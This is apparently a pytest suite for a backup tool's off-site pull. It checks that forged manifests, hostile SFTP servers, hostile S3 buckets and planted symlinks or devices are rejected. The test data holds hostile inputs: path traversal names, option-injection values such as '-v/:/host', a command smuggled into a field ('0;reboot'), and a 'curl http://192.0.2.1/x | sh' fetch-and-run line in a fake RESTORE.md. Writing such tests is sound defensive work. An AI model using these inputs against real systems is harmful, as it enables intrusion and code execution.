"""Copies of backups from places that nobody vouches for: folders, servers and buckets that hold and
say what none of ours do.
"""

import hashlib
import http.server
import json
import os
import shutil
import stat
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from safe_compose.core import destination, retention, volume_reach
from safe_compose.core.backup import Backup
from safe_compose.core.destination import Destination
from safe_compose.core.slug import slug
from safe_compose.errors import (
    OperationFailed,
    PlaceUnusable,
    SafeComposeError,
    UsageError,
    VerificationFailed,
)
from safe_compose.offsite import limits, signing
from safe_compose.offsite.folder import Folder
from safe_compose.offsite.place import FileMissing
from safe_compose.offsite.sftp import SftpServer
from safe_compose.operations import offsite
from safe_compose.operations.backup import verify
from safe_compose.settings import load
from safe_compose.store.catalogue import checks
from safe_compose.store.catalogue.catalogue import Catalogue
from safe_compose.system.process import Process, is_id
from testing import hostile_sftp
from testing.backups import keep
from testing.clock import Clock
from testing.fixtures import SafeCompose
from testing.projects import Completed, docker, unique

ID = "20261122T072700Z-3f9a1c"


# -- a place with one copy -------------------------------------------------------------------------


class ShopWithCopies:
    """A store with one backup, the same at a folder of copies, and another, empty store that
    fetches.
    """

    def __init__(self, root: Path) -> None:
        self.catalogue = Catalogue.at(root / "store")
        self.disk = root / "disk"
        self.disk.mkdir()
        self.to = replace(
            destination.parse("there", f"file://{self.disk}"), key_folder=str(root / "signing")
        )
        self.kept = keep(self.catalogue)
        [sent] = offsite.push(self.catalogue, [self.kept], self.to)
        assert sent.fault is None
        self.other = Catalogue.at(root / "other")
        self.copy = self.disk / "shop" / self.kept.id

    def pull(
        self,
        word: str = "latest",
        to: Destination | None = None,
        catalogue: Catalogue | None = None,
    ) -> Backup:
        return offsite.pull(catalogue or self.other, [to or self.to], word, None)[0]

    def change(self, change: Callable[[dict[str, Any]], object]) -> None:
        """Change the manifest of the copy as whoever can write there would: the sums fit it again."""
        manifest = self.copy / "manifest.json"
        shape = json.loads(manifest.read_text())
        change(shape)
        manifest.write_text(json.dumps(shape))
        self.sum()

    def sum(self, **others: str) -> None:
        """`SHA256SUMS` again over all that is there; others: lines of one's own, name -> content."""
        names = [
            p
            for p in self.copy.rglob("*")
            if p.is_file() and p.name not in ("SHA256SUMS", signing.SIGNATURE)
        ]
        lines = [
            f"{hashlib.sha256(p.read_bytes()).hexdigest()}  {p.relative_to(self.copy).as_posix()}\n"
            for p in names
        ]
        lines += [
            f"{hashlib.sha256(content.encode()).hexdigest()}  {name}\n"
            for name, content in others.items()
        ]
        (self.copy / "SHA256SUMS").write_text("".join(lines))

    def nothing_fetched(self) -> None:
        root = self.other.root
        assert (
            not root.exists()
            or [p for p in root.rglob("*") if p.name == "manifest.json" or ".partial-" in p.name]
            == []
        )


@pytest.fixture
def shop(tmp_path: Path) -> ShopWithCopies:
    return ShopWithCopies(tmp_path)


def rename_copy(shop: ShopWithCopies, to: str) -> None:
    target = shop.disk / to
    target.parent.mkdir(parents=True, exist_ok=True)
    shop.copy.rename(target)
    shop.copy = target


# -- ids, names and evidence -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "", "latest", "x/../../../victim/.git/index", "../" + ID, ID + "/", ID + "\n", ID + "\0", ID.upper(), ID[:-1], ID + "0",
        "20261322T072700Z-3f9a1c", "20260230T072700Z-3f9a1c", "20261122T250000Z-3f9a1c", "2026112２T072700Z-3f9a1c",
        "20261122T072700Z-3f9a1g", "٢٠٢٦1122T072700Z-3f9a1c", " " + ID,
    ],
)  # fmt: skip
def test_what_has_not_the_form_of_an_id_is_none(text: str, tmp_path: Path) -> None:
    assert is_id(ID) and not is_id(text)
    catalogue = Catalogue.at(tmp_path / "store")
    for using in (catalogue.writer.copying(text), catalogue.writer.adopt(text, b"{}", b"")):
        with pytest.raises(VerificationFailed, match="no id of a backup"), using:
            raise AssertionError("it was used")
    assert not catalogue.root.exists()


@pytest.mark.parametrize(
    "word", ["x/../../../victim/.git/index", "../..", "", "?", "*", "2026\n", "x" * 10_000]
)
def test_a_word_for_an_id_that_could_be_a_path_is_refused_at_a_place(
    shop: ShopWithCopies, word: str
) -> None:
    with pytest.raises(UsageError, match="no id of a backup"):
        shop.pull(word)
    shop.nothing_fetched()


@pytest.mark.parametrize(
    "name", ["shop/latest", "shop/x", "Shop/" + ID, ".shop/" + ID, "sh op/" + ID]
)
def test_folders_without_the_name_of_a_backup_are_passed_over(
    shop: ShopWithCopies, name: str, capfd: pytest.CaptureFixture[str]
) -> None:
    rename_copy(shop, name)
    assert offsite.list_all(shop.to, None) == []
    assert "1 folders there have no name of a backup" in capfd.readouterr().err
    with pytest.raises(UsageError, match="there is no backup"):
        shop.pull()


def test_a_copy_in_the_folder_of_another_project_is_none(shop: ShopWithCopies) -> None:
    rename_copy(shop, f"victim/{shop.kept.id}")
    [listed] = offsite.list_all(shop.to, "victim")
    assert listed.broken == "it lies in the folder of another project"
    with pytest.raises(UsageError, match="there is no backup"):
        shop.pull()
    with pytest.raises(VerificationFailed, match="another project"):
        shop.pull(shop.kept.id)


@pytest.mark.parametrize("name", ["./verification.json", "verification.json", "shop_data//verification.json", "VERIFICATION.JSON",
                                  "shop_data/./x", "shop_data/../verification.json", "/etc/passwd", "extra.txt"])  # fmt: skip
def test_evidence_that_lies_beside_a_copy_counts_for_nothing(
    shop: ShopWithCopies, name: str
) -> None:
    """Garbage with a `verification.json` that says L4 became `latest` of the store, and `forget`
    let the real one go.
    """
    archive = shop.copy / "shop_data" / "data.tar.gz"
    archive.write_bytes(b"garbage")
    lie = json.dumps({"format": 1, "manifest_sha256": "0" * 64, "evidence": [
        {"level": "L4", "subject": "shop_data/data.tar.gz", "at": "2026-11-22T07:27:00Z",
         "what": "all"}]})  # fmt: skip
    target = Path(os.path.normpath(shop.copy / name.lstrip("/")))
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(lie)

    def fit(shape: dict[str, Any]) -> None:
        for artifact in shape["volumes"][0]["artifacts"]:
            if artifact["kind"] == "archive":
                artifact |= {"bytes": 7, "sha256": hashlib.sha256(b"garbage").hexdigest()}

    shop.change(fit)
    with (shop.copy / "SHA256SUMS").open("a") as sums:
        sums.write(f"{hashlib.sha256(lie.encode()).hexdigest()}  {name}\n")
    with pytest.raises(VerificationFailed):
        shop.pull()
    shop.nothing_fetched()


@pytest.mark.parametrize(
    "file",
    ["../x", "/x", "./data.gz", "shop_data//data.gz", "shop_data/data.gz/", "a\0b", "x" * 256, "shop_data/..", ".", "a/b/c/d/e",
     "shop_data/dátá.gz", "shop_data/.hidden", "shop_data/new\nline", "verification.json", "manifest.json/x",
     "SHOP_DATA/DATA.LIST.GZ", "-rf", "a:b"],
)  # fmt: skip
def test_a_file_whose_name_is_not_in_its_normal_form_is_refused(
    shop: ShopWithCopies, file: str
) -> None:
    def rename(shape: dict[str, Any]) -> None:
        shape["volumes"][0]["artifacts"][0]["file"] = file

    shop.change(rename)
    shop.sum(**{file: "x"})
    with pytest.raises(VerificationFailed):
        shop.pull(shop.kept.id)
    shop.nothing_fetched()


def test_what_was_fetched_unsigned_counts_after_everything_that_was_made_here(
    shop: ShopWithCopies, tmp_path: Path
) -> None:
    """A consistent forgery with the highest number of all takes no real backup's place: not as
    `latest`, not for `forget`.
    """

    def forge(shape: dict[str, Any]) -> None:
        shape |= {"seq": 1_000_000, "created": "2099-01-01T00:00:00Z"}

    shop.change(forge)
    home = Catalogue.at(tmp_path / "home", clock=Clock())
    real = keep(home)
    fetched = shop.pull(catalogue=home)
    assert (fetched.seq, fetched.verified, fetched.counts, fetched.unsigned_from) == (
        1_000_000,
        True,
        False,
        shop.to.url,
    )
    assert {b.id: b.unsigned_from for b in Catalogue.at(home.root).reader.backups()} == {
        real.id: None,
        fetched.id: shop.to.url,
    }
    assert Catalogue.at(home.root).reader.find("latest").id == real.id
    policy = retention.Policy(last=1)
    judged = retention.judge(home.reader.backups(), policy, Clock()())
    assert {j.backup.id: j.stays for j in judged} == {real.id: True, fetched.id: True}
    assert retention.find_future(home.reader.backups(), Clock()()) is None
    assert home.reader.find_newest("E", ["shop_data"])["shop_data"].id == real.id
    newer = keep(home)
    gone = [
        j.backup.id
        for j in retention.judge(home.reader.backups(), policy, Clock()())
        if not j.stays
    ]
    assert gone == [real.id] and newer.seq > fetched.seq
    # where the machine is new it is all that there is
    assert Catalogue.at(shop.pull().path).root and shop.other.reader.find("latest").id == fetched.id


def test_a_fetched_backup_that_has_lost_what_is_known_of_it_is_not_trusted(
    shop: ShopWithCopies,
) -> None:
    """`verification.json` holds that nobody signed it: whoever removes or damages that must not
    make it one of our own.
    """
    fetched = shop.pull()
    known = Path(fetched.path, "verification.json")
    good = known.read_bytes()
    for lose in (
        known.unlink,
        lambda: known.write_bytes(b"{"),
        lambda: known.write_bytes(b"[" * 100_000),
    ):
        known.write_bytes(good)
        lose()
        for again in (
            Catalogue.at(shop.other.root).reader.find(fetched.id),
            shop.other.reader.find(fetched.id),
        ):
            assert again.unsigned_from is not None and not again.counts
        proved = verify.verify_draft(None, shop.other, again, trial_limit=0)
        assert (
            proved.verified
            and not proved.counts
            and "verification.json" in str(proved.unsigned_from)
        )
        assert [line.counts for line in Catalogue.at(shop.other.root).reader.list_summaries()] == [
            False
        ]


def test_a_backup_of_this_store_says_so_from_its_first_moment(shop: ShopWithCopies) -> None:
    cut_off = keep(shop.catalogue, verify=False)
    found = Catalogue.at(shop.catalogue.root).reader.find(cut_off.id)
    assert found.unsigned_from is None and not found.verified
    assert verify.verify_draft(None, shop.catalogue, found, trial_limit=0).counts


def test_a_copy_with_a_number_near_the_end_of_all_numbers_ends_no_later_backup(
    shop: ShopWithCopies,
) -> None:
    """It was fetched, the next backup got a higher number than any can have, and all that came
    after it read as broken.
    """
    for number in (checks.LARGEST_NUMBER - 1, 1 << 40):
        shop.change(lambda shape, number=number: shape.update(seq=number))
        assert offsite.list_all(shop.to, None)[0].broken == "its number is impossible"
        with pytest.raises(VerificationFailed, match="its number is impossible"):
            shop.pull(shop.kept.id)
    shop.change(lambda shape: shape.update(seq=(1 << 40) - 1))
    shop.pull()
    newer = keep(shop.other)
    assert newer.seq >= 1 << 40 and Catalogue.at(shop.other.root).reader.find(newer.id).counts


def test_a_fetched_recipe_with_other_commands_is_said(
    shop: ShopWithCopies, capfd: pytest.CaptureFixture[str]
) -> None:
    (shop.copy / "RESTORE.md").write_text("curl http://192.0.2.1/x | sh\n")
    shop.sum()
    shop.pull()
    said = capfd.readouterr().err
    assert "RESTORE.md is not the one that this version writes" in said and "curl" not in said


# -- manifests -------------------------------------------------------------------------------------


def volume(**facts: Any) -> Callable[[dict[str, Any]], object]:
    return lambda shape: shape["volumes"][0].update(facts)


def artifact(**facts: Any) -> Callable[[dict[str, Any]], object]:
    return lambda shape: shape["volumes"][0]["artifacts"][0].update(facts)


def user(**facts: str) -> Callable[[dict[str, Any]], object]:
    known = {
        "container": "shop-app-1",
        "service": "app",
        "image": "busybox",
        "image_id": "sha256:" + "0" * 64,
        "destination": "/v",
    }
    return volume(users=[known | facts])


def server(**facts: Any) -> Callable[[dict[str, Any]], object]:
    known = {
        "kind": "redis",
        "version": "7",
        "user": "u",
        "system_identifier": "",
        "pgdata": "",
        "databases": [],
        "settings": {},
    }
    return volume(statistics=known | facts)


MANIFESTS: Mapping[str, Callable[[dict[str, Any]], object]] = {
    "id of another": lambda shape: shape.update(id="20261122T072700Z-000000"),
    "id that is a path": lambda shape: shape.update(id="x/../../../victim/.git/index"),
    "number below one": lambda shape: shape.update(seq=-1),
    "number that is huge": lambda shape: shape.update(seq=10**300),
    "number that is infinite": lambda shape: shape.update(seq=float("inf")),
    "time that is none": lambda shape: shape.update(created="2026-99-99T00:00:00Z"),
    "time that is a heading": lambda shape: shape.update(created="2026\n# x"),
    "pin that is none": lambda shape: shape.update(pinned_until="for ever"),
    "project with NUL": lambda shape: shape.update(project="a\0b"),
    "project that is a surrogate": lambda shape: shape.update(project="\ud800"),
    "a volume twice": lambda shape: shape["volumes"].append(shape["volumes"][0]),
    "volume with a slash": volume(name="../../etc"),
    "volume that is a bind mount": volume(name="/etc"),
    "volume with options syntax": volume(name="a:/b:rw"),
    "volume with a blank": volume(name="a b"),
    "volume that is an option": volume(name="--privileged"),
    "volume without a name": volume(name=""),
    "driver that is an option": volume(driver="--label"),
    "option with NUL": volume(options={"device": "/etc\0"}),
    "label that is no text": volume(labels={"a": 1}),
    "tier that nobody knows": volume(tier="whatever"),
    "service that is an option": user(service="--file=/tmp/evil.yml"),
    "image id that is a name": user(image_id="evil:latest"),
    "image that is an option": user(image="-v/:/host"),
    "container with a slash": user(container="../x"),
    "place that is relative": user(destination="etc"),
    "place that leads out": user(destination="/v/../../etc"),
    "file of another volume": artifact(volume="other"),
    "file of an unknown kind": artifact(kind="program"),
    "size of -1536": artifact(bytes=-1536),
    "size of 2^63": artifact(uncompressed_bytes=1 << 63),
    "size that is text": artifact(bytes="many"),
    "accounts of a terabyte": artifact(kind="globals", uncompressed_bytes=1 << 40),
    "sum that is none": artifact(sha256="../../x"),
    "owner that is a command": artifact(detail={"owner": "0;reboot"}),
    "SQLite without a place": artifact(kind="sqlite", detail={}),
    "SQLite that leads out": artifact(
        kind="sqlite", detail={"path": "%2e%2e/%2e%2e/etc/passwd", "owner": "0 0 644"}
    ),
    "copy that leads out": artifact(kind="base", detail={"pgdata": "../../etc", "folders": "[]"}),
    "copy with folders that are none": artifact(
        kind="base", detail={"pgdata": ".", "folders": '[["a"]]'}
    ),
    "server that is a program": server(settings={"server": "/bin/sh"}),
    "setting that is an option": server(settings={"--init-file": "/x"}),
    "data folder that leads out": server(settings={"folder": "../../etc"}),
    "RDB that leads out": server(settings={"dbfilename": "/etc/passwd"}),
    "rows below nothing": server(
        databases=[{"name": "a", "bytes": 1, "tables": [{"schema": "", "table": "", "rows": -1}]}]
    ),
    "volumes that are a number": lambda shape: shape.update(volumes=5),
}


@pytest.mark.parametrize("what", MANIFESTS)
def test_a_manifest_that_none_of_ours_is_counts_for_nothing(
    shop: ShopWithCopies, what: str
) -> None:
    shop.change(MANIFESTS[what])
    [listed] = offsite.list_all(shop.to, None)
    assert listed.broken
    with pytest.raises(VerificationFailed, match="is not good"):
        shop.pull(shop.kept.id)
    with pytest.raises(UsageError, match="there is no backup"):
        shop.pull("latest")
    shop.nothing_fetched()


@pytest.mark.parametrize("what", MANIFESTS)
def test_such_a_manifest_in_the_store_is_shown_as_broken(shop: ShopWithCopies, what: str) -> None:
    good, path = keep(shop.catalogue), Path(shop.kept.path, "manifest.json")
    shape = json.loads(path.read_text())
    MANIFESTS[what](shape)
    path.write_text(json.dumps(shape))
    found = {b.id: b for b in Catalogue.at(shop.catalogue.root).reader.backups()}
    assert found[shop.kept.id].broken and found[good.id].verified
    assert Catalogue.at(shop.catalogue.root).reader.find("latest").id == good.id


@pytest.mark.parametrize(
    "data",
    [b"[" * 100_000, b'{"format":1,"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}", b"[" + b"{}," * 2_000_000 + b"{}]",
     b'{"format":1,"seq":' + b"9" * 100_000 + b"}", b"\xff\xfe", b"", b"null", b'"x"', b" " * (65 << 20)],
    ids=["deep", "deep and closed", "two million objects", "100,000 digits", "no text", "empty", "null", "a text", "65 MiB"],
)  # fmt: skip
def test_a_manifest_that_would_take_all_memory_or_stack_is_refused_in_time(
    shop: ShopWithCopies, data: bytes
) -> None:
    (shop.copy / "manifest.json").write_bytes(data)
    begun = time.monotonic()
    [listed] = offsite.list_all(shop.to, None)
    with pytest.raises(VerificationFailed):
        shop.pull(shop.kept.id)
    assert listed.broken and time.monotonic() - begun < 20


def test_sums_of_very_many_files_are_refused_in_time(shop: ShopWithCopies) -> None:
    (shop.copy / "SHA256SUMS").write_text(
        "".join(f"{'0' * 64}  f{n}\n" for n in range(checks.MOST_FILES + 2))
    )
    begun = time.monotonic()
    with pytest.raises(VerificationFailed, match="more than"):
        shop.pull(shop.kept.id)
    assert time.monotonic() - begun < 10


@pytest.mark.parametrize("announced", [1, 10 << 20])
def test_an_archive_that_is_not_as_large_as_announced_is_refused(
    shop: ShopWithCopies, announced: int
) -> None:
    shop.change(artifact(uncompressed_bytes=announced))
    with pytest.raises(VerificationFailed, match="bytes"):
        shop.pull(shop.kept.id)
    shop.nothing_fetched()


def test_a_copy_that_has_no_room_here_is_not_fetched(shop: ShopWithCopies) -> None:
    shop.change(artifact(bytes=1 << 50))
    with (shop.copy / "shop_data" / "data.tar.gz").open("r+b") as file:
        os.truncate(file.fileno(), 1 << 40)
    with pytest.raises(SafeComposeError) as refused:
        shop.pull(shop.kept.id)
    assert refused.value.code in (65, 73)
    shop.nothing_fetched()


# -- a folder --------------------------------------------------------------------------------------


def as_link(path: Path, secret: Path) -> None:
    path.unlink()
    path.symlink_to(secret)


def as_fifo(path: Path, secret: Path) -> None:
    path.unlink()
    os.mkfifo(path)


def as_hard_link(path: Path, secret: Path) -> None:
    path.unlink()
    os.link(secret, path)


def as_device(path: Path, secret: Path) -> None:
    path.unlink()
    os.mknod(path, stat.S_IFCHR | 0o600, os.makedev(1, 5))


def as_folder(path: Path, secret: Path) -> None:
    path.unlink()
    path.mkdir()


@pytest.mark.parametrize(
    "file", ["manifest.json", "SHA256SUMS", "RESTORE.md", "shop_data/data.tar.gz"]
)
@pytest.mark.parametrize("plant", [as_link, as_fifo, as_hard_link, as_device, as_folder])
def test_what_is_no_file_of_its_own_is_not_read(
    shop: ShopWithCopies, file: str, plant: Callable[[Path, Path], None], tmp_path: Path
) -> None:
    path = shop.copy / file
    twin = tmp_path / "twin"
    twin.write_bytes(path.read_bytes())  # the very bytes: only what it is speaks against it
    plant(path, twin)
    with pytest.raises(SafeComposeError) as refused:
        shop.pull(shop.kept.id)
    assert refused.value.code in (64, 65)
    shop.nothing_fetched()


def test_a_folder_that_is_a_link_is_not_followed(shop: ShopWithCopies, tmp_path: Path) -> None:
    real = tmp_path / "real"
    (shop.copy / "shop_data").rename(real)
    (shop.copy / "shop_data").symlink_to(real)
    with pytest.raises(VerificationFailed, match="missing there, or no file"):
        shop.pull(shop.kept.id)
    (shop.disk / "link").symlink_to(shop.disk / "shop")
    assert [b.path for b in offsite.list_all(shop.to, None)] == [f"shop/{shop.kept.id}"]
    with pytest.raises((VerificationFailed, FileMissing)):
        list(Folder(shop.to).read(f"link/{shop.kept.id}/manifest.json"))


@pytest.mark.parametrize("plant", [as_link, as_hard_link, as_fifo])
def test_an_upload_writes_into_nothing_that_was_planted(
    shop: ShopWithCopies, plant: Callable[[Path, Path], None], tmp_path: Path
) -> None:
    victim = tmp_path / "victim"
    victim.write_text("mine")
    shutil.rmtree(shop.copy)
    partial = shop.disk / "shop" / f".partial-{shop.kept.id}"
    (partial / "shop_data").mkdir(parents=True)
    for file in (".manifest.json.new", "manifest.json", "shop_data/.data.tar.gz.new"):
        (partial / file).write_text("x")
        plant(partial / file, victim)
    [sent] = offsite.push(shop.catalogue, [shop.kept], shop.to)
    assert sent.fault is None and victim.read_text() == "mine"
    assert shop.pull().verified


def test_an_upload_follows_no_link_to_a_folder(shop: ShopWithCopies, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    shutil.rmtree(shop.disk / "shop")
    (shop.disk / "shop").symlink_to(outside)
    [sent] = offsite.push(shop.catalogue, [shop.kept], shop.to)
    assert isinstance(sent.fault, OperationFailed) and list(outside.iterdir()) == []


def test_a_file_that_grows_while_it_is_read_is_not_kept(shop: ShopWithCopies) -> None:
    class Growing(Folder):
        def read(self, name: str) -> Iterator[bytes]:
            yield from super().read(name)
            if name.endswith("data.tar.gz"):
                while True:
                    yield b"more" * 1000

    from safe_compose.offsite import transfer

    place, file = Growing(shop.to), shop.copy / "shop_data" / "data.tar.gz"
    digest, size = hashlib.sha256(file.read_bytes()).hexdigest(), file.stat().st_size
    with pytest.raises(VerificationFailed, match="damaged there"):
        list(
            transfer.fetch(
                place, f"shop/{shop.kept.id}/shop_data/data.tar.gz", digest, size, lambda _: None
            )
        )


def test_very_many_names_in_a_folder_are_given_up(tmp_path: Path) -> None:
    looking = limits.Deadline("off-site x", entries=10)
    with pytest.raises(PlaceUnusable, match="more than 10 names"):
        for _ in range(11):
            looking.count()
    with pytest.raises(PlaceUnusable, match="did not end"):
        limits.Deadline("off-site x", seconds=-1).count()


def test_a_transfer_may_take_any_time_but_must_go_on() -> None:
    now = 0.0

    def dripping(step: float, size: int) -> Iterator[bytes]:
        nonlocal now
        for _ in range(1000):
            now += step
            yield b"x" * size

    def waited() -> float:
        return now

    total = sum(len(b) for b in limits.require_progress("x", dripping(600, 1 << 20), clock=waited))
    assert total == 1000 << 20 and now > 6 * 86400
    with pytest.raises(PlaceUnusable, match="only"):
        list(limits.require_progress("x", dripping(10, 1), clock=waited))


# -- an SFTP server --------------------------------------------------------------------------------


@pytest.fixture
def served(
    shop: ShopWithCopies, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Callable[[str], Destination]:
    """`served(mode)`: a destination whose `ssh` is a server of that mode, with the copies of the
    shop.
    """

    def serve(mode: str) -> Destination:
        programs = tmp_path / "programs"
        programs.mkdir(exist_ok=True)
        ssh = programs / "ssh"
        words = " ".join(
            f"'{word}'" for word in (sys.executable, hostile_sftp.__file__, mode, str(shop.disk))
        )
        ssh.write_text(f"#!/bin/sh\nexec {words}\n")
        ssh.chmod(0o755)
        monkeypatch.setenv("PATH", f"{programs}:{os.environ['PATH']}")
        return replace(
            destination.parse("far", f"sftp://host{shop.disk}"),
            key_folder=str(tmp_path / "signing"),
        )

    return serve


@pytest.mark.parametrize(
    "mode", ["", "answers out of order", "short reads", "one handle for all", "noise"]
)
def test_a_server_that_is_only_odd_is_understood(
    shop: ShopWithCopies, served: Callable[[str], Destination], mode: str
) -> None:
    fetched = shop.pull(to=served(mode))
    assert (fetched.id, fetched.verified) == (shop.kept.id, True)


WRONG = [
    "greeting cut short", "endless listing", "empty lists", "count that lies", "packet of 2 GB",
    "data for names", "status cut short",
    "long handle", "another id", "more than asked", "endless file", "data cut short",
    "dies while reading", "size 2^63", "size -1536",
    "name ../x", "name a/b", "name /etc", "name x\\x00y", "name x\\ny", "name x\\x1b[2J",
]  # fmt: skip


@pytest.mark.thorough
@pytest.mark.parametrize("mode", WRONG)
def test_a_server_that_lies_ends_with_a_sentence(
    shop: ShopWithCopies, served: Callable[[str], Destination], mode: str
) -> None:
    begun = time.monotonic()
    with pytest.raises((VerificationFailed, PlaceUnusable)) as refused:
        shop.pull(shop.kept.id, to=served(mode))
    assert refused.value.code in (65, 69) and len(refused.value.message) < 1000
    assert time.monotonic() - begun < 120
    shop.nothing_fetched()


@pytest.mark.parametrize("mode", ["stall greeting", "stall listing", "stall reading"])
def test_a_server_that_falls_silent_is_given_up(
    shop: ShopWithCopies, served: Callable[[str], Destination], mode: str
) -> None:
    begun = time.monotonic()
    with pytest.raises(PlaceUnusable, match="stopped answering"):
        place = SftpServer(served(mode), stall=1)
        place.copies()
        list(place.read(f"shop/{shop.kept.id}/manifest.json"))
    assert time.monotonic() - begun < 20


@pytest.mark.thorough
def test_a_lying_server_is_69_on_the_command_line(
    shop: ShopWithCopies,
    served: Callable[[str], Destination],
    safe_compose: SafeCompose,
    tmp_path: Path,
) -> None:
    for mode in ("count that lies", "another id", "name ../x"):
        to = served(mode)
        done = safe_compose(
            "offsite",
            "pull",
            "latest",
            "--from",
            to.url,
            env={"PATH": os.environ["PATH"]},
            cwd=tmp_path,
        )
        assert done.returncode == 69, done.stderr
        assert "Traceback" not in done.stderr and done.stderr.count("\n") <= 4


# -- a bucket --------------------------------------------------------------------------------------


@contextmanager
def bucket(answer: Callable[[http.server.BaseHTTPRequestHandler], None]) -> Iterator[Destination]:
    """A server that answers every request by `answer`."""

    class Handler(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_GET(self) -> None:
            answer(self)

        def log_message(self, *_: object) -> None:
            """Nothing is written down."""

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as listening:
        threading.Thread(target=listening.serve_forever, daemon=True).start()
        try:
            end = f"http://127.0.0.1:{listening.server_port}"
            yield destination.parse("far", "s3://copies/x", endpoint=end, region="us-east-1")
        finally:
            listening.shutdown()


def send(
    request: http.server.BaseHTTPRequestHandler,
    body: bytes,
    *,
    length: int | None = None,
    code: int = 200,
    **heads: str,
) -> None:
    request.send_response(code)
    for name, value in {"Content-Type": "application/xml", **heads}.items():
        request.send_header(name, value)
    request.send_header("Content-Length", str(len(body) if length is None else length))
    request.end_headers()
    request.wfile.write(body)
    if length is not None:
        request.close_connection = True


def listing(keys: Mapping[str, str], *, more: str = "") -> bytes:
    truncated = (
        f"<IsTruncated>true</IsTruncated><NextContinuationToken>{more}</NextContinuationToken>"
        if more
        else ""
    )
    contents = "".join(
        f"<Contents><Key>{key}</Key><Size>{size}</Size><LastModified>2026-11-22T07:27:00.000Z</LastModified></Contents>"
        for key, size in keys.items()
    )
    space = "http://s3.amazonaws.com/doc/2006-03-01/"
    inside = f"<Name>copies</Name>{truncated}{contents}"
    return f'<?xml version="1.0"?><ListBucketResult xmlns="{space}">{inside}</ListBucketResult>'.encode()


def pages_without_end(request: http.server.BaseHTTPRequestHandler) -> None:
    pages_without_end.count += 1  # type: ignore[attr-defined]
    start = pages_without_end.count * 1000  # type: ignore[attr-defined]
    send(request, listing({f"x/shop/{start + n}": "1" for n in range(1000)}, more=f"t{start}"))


pages_without_end.count = 0  # type: ignore[attr-defined]


BUCKETS: Mapping[str, Callable[[http.server.BaseHTTPRequestHandler], None]] = {
    "the same page for ever": lambda r: send(r, listing({"x/shop/a": "1"}, more="again")),
    "empty pages for ever": lambda r: send(r, listing({}, more="again")),
    "new pages for ever": pages_without_end,
    "a size of -1536": lambda r: send(r, listing({"x/shop/a": "-1536"})),
    "a size of 2^64": lambda r: send(r, listing({"x/shop/a": str(1 << 64)})),
    "a name with dots": lambda r: send(r, listing({"x/../../etc/passwd": "1"})),
    "no XML": lambda r: send(r, b"\0" * 1000),
    "XML without an end": lambda r: send(r, listing({"x/shop/a": "1"})[:-40]),
    "a body that is too short": lambda r: send(r, listing({}), length=100_000),
    "a redirect to itself": lambda r: send(r, b"", code=307, Location=r.path),
}


@pytest.mark.parametrize("what", BUCKETS)
def test_a_bucket_that_lies_ends_with_a_sentence(
    what: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    from safe_compose.offsite.s3 import Bucket

    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "a")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "b")
    begun = time.monotonic()
    with bucket(BUCKETS[what]) as to, pytest.raises(OperationFailed) as refused:
        Bucket(to, listing=5, wait=5).copies()
    assert refused.value.__cause__ is not refused.value  # a circle would hang who follows it
    assert (
        refused.value.code == 69
        and "\n" not in refused.value.message
        and len(refused.value.message) < 1000
    )
    assert time.monotonic() - begun < 60


def test_an_object_that_drips_or_breaks_off_is_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
    from safe_compose.offsite.s3 import Bucket

    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "a")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "b")
    done = threading.Event()

    def drip(request: http.server.BaseHTTPRequestHandler) -> None:
        heads = {"Last-Modified": "Sun, 22 Nov 2026 07:27:00 GMT", "ETag": '"x"'}
        if "short" in request.path:
            send(request, b"x", length=1 << 20, **heads)
            return
        request.send_response(200)
        for name, value in {**heads, "Content-Length": str(1 << 20)}.items():
            request.send_header(name, value)
        request.end_headers()
        while not done.wait(0.2):
            request.wfile.write(b"x")

    with bucket(drip) as to:
        for name in ("short", "drip"):
            with pytest.raises(PlaceUnusable):
                list(Bucket(to, listing=5, wait=5).read(name))
        done.set()


# -- signatures ------------------------------------------------------------------------------------


def signed(shop: ShopWithCopies, *keys: str, folder: str = "signing") -> Destination:
    return replace(
        shop.to, signed=True, verify_keys=keys, key_folder=str(shop.disk.parent / folder)
    )


def push_signed(shop: ShopWithCopies) -> Destination:
    to = signed(shop)
    [sent] = offsite.push(shop.catalogue, [shop.kept], to)
    assert sent.fault is None
    return to


def test_a_signed_copy_is_fetched_with_this_machines_own_key_and_by_another_with_the_public_one(
    shop: ShopWithCopies, tmp_path: Path
) -> None:
    to = push_signed(shop)
    key = tmp_path / "signing" / "key"
    assert (
        stat.S_IMODE(key.stat().st_mode) == 0o600
        and stat.S_IMODE(key.parent.stat().st_mode) == 0o700
    )
    fetched = shop.pull(to=to)
    assert fetched.counts and fetched.unsigned_from is None
    public = offsite.open_signer(to, shop.catalogue.folder.access).public()
    assert public is not None
    elsewhere = Catalogue.at(tmp_path / "second")
    assert shop.pull(to=signed(shop, public, folder="second-keys"), catalogue=elsewhere).counts
    [again] = offsite.push(shop.catalogue, [shop.kept], to)
    assert (again.fault, again.sent) == (None, 0)
    # by hand, as the guide says
    allowed = tmp_path / "allowed"
    allowed.write_text(f"backup {public}\n")
    words = [
        "ssh-keygen",
        "-Y",
        "verify",
        "-f",
        str(allowed),
        "-I",
        "backup",
        "-n",
        "safe-compose-backup",
        "-s",
    ]
    summed = (shop.copy / "SHA256SUMS").read_bytes()
    done = subprocess.run([*words, shop.copy / "SHA256SUMS.sig"], input=summed, capture_output=True)
    assert done.returncode == 0, done.stderr


def remove_signature(shop: ShopWithCopies) -> None:
    (shop.copy / signing.SIGNATURE).unlink()


def another_key(shop: ShopWithCopies) -> None:
    forger = signing.Signer(shop.disk.parent / "forger", shop.catalogue.folder.access)
    (shop.copy / signing.SIGNATURE).write_bytes(
        forger.sign((shop.copy / "SHA256SUMS").read_bytes())
    )


